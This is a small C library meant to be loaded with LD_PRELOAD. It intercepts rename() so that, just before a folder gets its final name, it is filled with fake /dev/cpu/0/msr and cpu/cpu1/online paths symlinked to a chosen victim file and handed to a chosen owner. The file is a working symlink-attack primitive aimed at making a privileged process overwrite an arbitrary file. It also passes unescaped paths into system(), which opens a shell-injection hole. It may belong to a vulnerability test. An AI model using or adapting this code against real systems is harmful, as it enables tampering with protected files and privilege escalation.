// SPDX-License-Identifier: MIT
/* A library by which $LOST_OWNER makes a folder $LOST_NAME before it is renamed to that. */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int rename(const char *from, const char *to)
{
	int (*next)(const char *, const char *);
	const char *as = getenv("LOST_OWNER"), *name = getenv("LOST_NAME");
	char command[4096];

	*(void **)&next = dlsym(RTLD_NEXT, "rename");
	if (name && strlen(to) >= strlen(name) && !strcmp(to + strlen(to) - strlen(name), name)) {
		unsetenv("LD_PRELOAD");
		snprintf(command, sizeof(command),
			 "mkdir -p '%s/dev/cpu/0' '%s/cpu/cpu1' && "
			 "ln -s \"$VICTIM\" '%s/dev/cpu/0/msr' && "
			 "ln -s \"$VICTIM\" '%s/cpu/cpu1/online' && chown -R %s '%s'",
			 to, to, to, to, as, to);
		if (system(command))
			return -1;
	}
	return next(from, to);
}
